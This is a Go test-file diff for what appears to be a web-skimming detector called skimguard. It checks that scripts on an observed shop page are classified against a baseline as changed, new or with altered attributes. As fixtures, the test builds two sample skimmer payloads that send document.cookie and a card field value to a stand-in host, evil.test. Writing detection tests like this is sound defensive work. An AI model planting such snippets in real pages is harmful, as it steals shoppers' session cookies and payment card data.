@@ -1,6 +1,7 @@
 package baseline
 
 import (
+	"strings"
 	"testing"
 
 	skimguard "github.com/skimguard/skimguard"
@@ -56,4 +57,46 @@ func TestVerifySaysHowEachItemWasShown(t *testing.T) {
 			t.Fatalf("the untouched inline config: %d, want ByStructure", got[config])
 		}
 	})
+}
+
+func TestScriptsSaysHowEachScriptStands(t *testing.T) {
+	b := learn(t, shop(1), shop(2), shop(3))
+	o := shop(4)
+	setSource(scriptByURL(o, "https://shop.test/static/js/modernizr.js"), modernizr+`;new Image().src="https://evil.test/?"+document.cookie`)
+	scriptByURL(o, "https://cdn.good.test/").Integrity = ""
+	skimmer := script(skimguard.ScriptInline, "", o.FinalURL, `document.addEventListener("change",function(){navigator.sendBeacon("https://evil.test/g",cc.value)})`)
+	o.Scripts = append(o.Scripts, skimmer)
+	numberOrdinals(o)
+
+	got := Scripts(b, o)
+	if len(got) != len(o.Scripts) {
+		t.Fatalf("%d states for %d scripts", len(got), len(o.Scripts))
+	}
+	keys := map[string]bool{}
+	for _, fd := range Compare(b, o) {
+		keys[string(fd.Kind)+" "+fd.Item.Key] = true
+	}
+	for i, sc := range o.Scripts {
+		want := ScriptApproved
+		switch {
+		case strings.HasPrefix(sc.URL, "https://shop.test/static/js/modernizr.js"):
+			want = ScriptChanged
+		case strings.HasPrefix(sc.URL, "https://cdn.good.test/"):
+			want = ScriptAttributesChanged
+		case i == len(o.Scripts)-1:
+			want = ScriptNew
+		}
+		if got[i].State != want {
+			t.Errorf("%s: %s, want %s", sc.Subject(), got[i].State, want)
+		}
+		// The key is the one findings about the script carry.
+		kind := map[ScriptState]skimguard.Kind{ScriptChanged: skimguard.KindScriptChanged, ScriptNew: skimguard.KindScriptAdded,
+			ScriptAttributesChanged: skimguard.KindScriptAttributesChanged}[want]
+		if kind != "" && !keys[string(kind)+" "+got[i].Key] {
+			t.Errorf("%s: key %q is not the key of its %s finding (%v)", sc.Subject(), got[i].Key, kind, keys)
+		}
+	}
+	if Scripts(nil, o) != nil || Scripts(b, nil) != nil {
+		t.Error("a nil baseline or observation gives states")
+	}
 }
